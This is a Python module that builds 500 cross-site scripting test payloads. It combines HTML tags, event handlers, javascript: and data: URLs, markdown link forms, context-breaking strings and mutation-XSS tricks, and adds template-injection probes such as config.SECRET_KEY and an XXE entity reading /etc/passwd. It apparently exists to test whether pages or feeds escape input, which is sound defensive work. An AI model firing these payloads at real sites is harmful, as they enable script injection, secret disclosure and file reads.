"""500 texts that would run a script if a page or feed did not escape them; each one calls `alert`."""

from itertools import islice, product

TAGS = (
    "img src=x", "svg", "body", "details open", "video src=x", "audio src=x", "input autofocus", "marquee",
    "iframe src=x", "object data=x", "embed src=x", "math", "select autofocus", "textarea autofocus",
    "style", "button autofocus", "form", "isindex type=image src=1", "a href=x", "svg><animate begin=0s",
    "dialog open", "track src=x", "link rel=stylesheet href=x", "frameset", "table background=x",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "onfocus", "ontoggle", "onstart", "onbegin", "onpageshow", "onmouseover",
    "onanimationstart", "onpointerrawupdate", "OnErRoR", "onscrollend", "onloadstart",
)  # fmt: skip
URLS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript&colon;alert(1)", " javascript:alert(1)",
    "javascript&#58;alert(1)", "\x01javascript:alert(1)", "vbscript:alert(1)", "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
)  # fmt: skip
PLACES = (
    "<a href='{}'>x</a>", '<a href="{}">x</a>', "<a href={}>x</a>", "[x]({})", "[x](<{}>)", "![x]({})", "<{}>",
    "[x]: {}\n\n[x]", "<iframe src='{}'></iframe>", "<form action='{}'><input type=submit autofocus>",
    "<svg><a xlink:href='{}'><text>x</text></a></svg>", "<img src='{}'>", "<object data='{}'></object>",
    "<meta http-equiv=refresh content='0;url={}'>", "<base href='{}//'>", "<embed src='{}'>",
    "<button formaction='{}'>x</button>", "<math href='{}'>x</math>", '[x]({} "title")',
)  # fmt: skip
BREAKS = (
    '"', "'", ">", '">', "'>", "-->", "]]>", "</script>", "</title>", "</textarea>", "</style>", "</pre>",
    "</noscript>", "</a>", "</svg>", "\u2028", "`", "*/", "{{", "${", "<!--", "<![CDATA[", "\\", "%3E",
    "&gt;", "\u202e", "</xmp>", "</template>", "</summary>", "</content>",
)  # fmt: skip
SCRIPTS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=data:,alert(1)></script>",
    "<svg onload=alert(1)>", "<img src=x onerror=alert(1)>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
)  # fmt: skip
WHOLE = (
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<?xml-stylesheet href='javascript:alert(1)'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<template><script>alert(1)</script></template>", "{{ 7*191 }}{% print 7*191 %}", "{{config.SECRET_KEY}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "${alert(1)}", "#{7*191}", "<%= 7*191 %>",
    "<div style='background:url(javascript:alert(1))'>", "<style>@import 'javascript:alert(1)';</style>",
    "<img srcset='x 1x, javascript:alert(1) 2x' onerror=alert(1)>", "<plaintext><script>alert(1)</script>",
    "\\<script>alert(1)\\</script>", "`<script>alert(1)</script>`", "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```", "```\"onload=alert(1)//\n```", "[^1]\n\n[^1]: <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |", "~~<script>alert(1)</script>~~",
    "=HYPERLINK('javascript:alert(1)')", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "+ADw-script+AD4-alert(1)",
)  # fmt: skip


def payloads(number: int = 500) -> list[str]:
    """Return that many texts, all different."""
    quoted = (f"{end}{script}" for end, script in product(BREAKS, SCRIPTS))
    handlers = (f"<{tag} {event}=alert(1)>" for tag, event in product(TAGS, EVENTS))
    links = (place.format(url) for place, url in product(PLACES, URLS))
    parts = (list(WHOLE), list(islice(quoted, 120)), list(handlers)[::2], list(links)[::1])
    found = list(dict.fromkeys(text for part in parts for text in part))
    assert len(found) >= number
    return found[:number]
